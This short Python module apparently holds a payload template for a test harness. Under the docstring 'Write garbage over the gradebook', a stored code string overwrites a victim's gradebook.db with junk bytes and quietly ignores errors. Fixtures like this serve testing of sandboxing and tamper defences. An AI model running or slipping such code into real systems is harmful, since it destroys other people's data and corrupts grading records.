"""Write garbage over the gradebook."""

FIRST = """
try:
    with open("{{VICTIM}}/gradebook.db", "r+b") as _file:
        _file.write(b"not a database " * 1_000)
except OSError:
    pass
"""
